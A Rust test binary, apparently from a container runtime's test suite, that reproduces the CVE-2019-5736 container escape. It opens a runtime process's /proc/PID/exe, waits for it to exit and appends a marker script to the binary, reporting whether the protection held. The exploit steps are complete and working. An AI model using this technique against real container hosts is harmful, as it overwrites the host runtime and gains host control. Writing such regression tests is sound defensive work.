//! The CVE-2019-5736 attacker, put into test containers by
//! tests/exe_protection.rs (static, like every binary of this workspace).
//! It plays what a hostile image does: get an fd of a runtime process's
//! /proc/PID/exe, keep it until the runtime has exited, then reopen it for
//! writing and append to the binary. Every step is reported, one line
//! each, to a report file in a volume the test reads from the host:
//!
//! - `opened DEV:INO` the fd names that file (the test compares it with
//!   the binary under attack: the attack reached the binary);
//! - `denied PID ERRNO` /proc/PID/exe of a runtime process could not be
//!   opened at all (non-dumpable, no CAP_SYS_PTRACE);
//! - `write-failed ERRNO` the reopen for writing failed (30 = EROFS);
//! - `WROTE` the binary was written: the escape worked.
//!
//! Modes:
//!   send SOCK PID               opens /proc/PID/exe (O_PATH) and sends the
//!                               fd over the unix socket SOCK;
//!   hold SOCK REPORT            listens on SOCK, receives one fd, attacks;
//!   watch REPORT DEV:INO STOP [SOCK]
//!                               scans /proc for a process whose exe is
//!                               DEV:INO and attacks it (or, with SOCK,
//!                               hands the fd to a holder there); gives up
//!                               when the file STOP appears.

use std::fs::{self, OpenOptions};
use std::io::{self, Write};
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::os::unix::net::UnixListener;
use std::path::Path;
use std::time::{Duration, Instant};

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let arg = |i: usize| args.get(i).cloned().unwrap_or_else(|| usage());
    match arg(1).as_str() {
        "send" => send(&arg(2), &arg(3)),
        "hold" => hold(&arg(2), &arg(3)),
        "watch" => watch(&arg(2), &arg(3), &arg(4), args.get(5)),
        _ => usage(),
    }
}

fn usage() -> ! {
    eprintln!(
        "usage: exe-attacker send SOCK PID | hold SOCK REPORT | watch REPORT DEV:INO STOP [SOCK]"
    );
    std::process::exit(2)
}

fn report(path: &str, line: &str) {
    let mut f = OpenOptions::new()
        .create(true)
        .append(true)
        .open(path)
        .expect("report file");
    writeln!(f, "{line}").expect("writing the report");
}

fn open_exe(pid: &str) -> io::Result<OwnedFd> {
    OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_PATH)
        .open(format!("/proc/{pid}/exe"))
        .map(OwnedFd::from)
}

fn identity(fd: &OwnedFd) -> String {
    let m = fs::metadata(format!("/proc/self/fd/{}", fd.as_raw_fd())).expect("fstat of the fd");
    format!("{}:{}", m.dev(), m.ino())
}

fn send(sock: &str, pid: &str) {
    send_fd(sock, &open_exe(pid).expect("opening the runtime's exe"));
}

fn send_fd(sock: &str, fd: &OwnedFd) {
    remora_seccomp::send_listener(Path::new(sock), std::os::fd::AsFd::as_fd(fd), b"exe")
        .expect("sending the fd");
}

fn hold(sock: &str, report_path: &str) {
    let listener = UnixListener::bind(sock).expect("binding the socket");
    // Any container's root may connect (a user namespace's too).
    fs::set_permissions(sock, std::os::unix::fs::PermissionsExt::from_mode(0o777))
        .expect("chmod of the socket");
    let (stream, _) = listener.accept().expect("accepting");
    let (fd, _) = remora_seccomp::recv_listener(&stream).expect("receiving the fd");
    attack(fd, report_path);
}

/// Waits (ETXTBSY) until nothing runs the file, then reopens it for
/// writing through /proc/self/fd and appends to it.
fn attack(fd: OwnedFd, report_path: &str) {
    report(report_path, &format!("opened {}", identity(&fd)));
    let path = format!("/proc/self/fd/{}", fd.as_raw_fd());
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        match OpenOptions::new().append(true).open(&path) {
            Ok(mut f) => {
                let _ = f.write_all(b"\n#!/bin/sh\necho PWNED by the container\n");
                report(report_path, "WROTE");
                return;
            }
            Err(e) if e.raw_os_error() == Some(libc::ETXTBSY) && Instant::now() < deadline => {
                std::thread::sleep(Duration::from_millis(5));
            }
            Err(e) => {
                report(
                    report_path,
                    &format!("write-failed {}", e.raw_os_error().unwrap_or(0)),
                );
                return;
            }
        }
    }
}

fn watch(report_path: &str, target: &str, stop: &str, sock: Option<&String>) {
    let me = std::process::id().to_string();
    let mut denied = std::collections::HashSet::new();
    while !Path::new(stop).exists() {
        for e in fs::read_dir("/proc").expect("/proc").flatten() {
            let pid = e.file_name().to_string_lossy().into_owned();
            if !pid.bytes().all(|b| b.is_ascii_digit()) || pid == me {
                continue;
            }
            // Is it the target? Its exe's identity tells, when we may
            // look: stat of the link's target follows it as open does.
            let Ok(m) = fs::metadata(format!("/proc/{pid}/exe")) else {
                // Not ours to read: a non-dumpable process. Try the
                // open the attack needs, and say it was refused.
                if let Err(err) = open_exe(&pid) {
                    if err.raw_os_error() == Some(libc::EACCES) && denied.insert(pid.clone()) {
                        report(report_path, &format!("denied {pid} {}", libc::EACCES));
                    }
                }
                continue;
            };
            if format!("{}:{}", m.dev(), m.ino()) != target {
                continue;
            }
            match open_exe(&pid) {
                Ok(fd) => match sock {
                    Some(sock) => {
                        report(report_path, &format!("passed {}", identity(&fd)));
                        return send_fd(sock, &fd);
                    }
                    None => return attack(fd, report_path),
                },
                Err(err) => {
                    if denied.insert(pid.clone()) {
                        report(
                            report_path,
                            &format!("denied {pid} {}", err.raw_os_error().unwrap_or(0)),
                        );
                    }
                }
            }
        }
        std::thread::sleep(Duration::from_micros(200));
    }
}
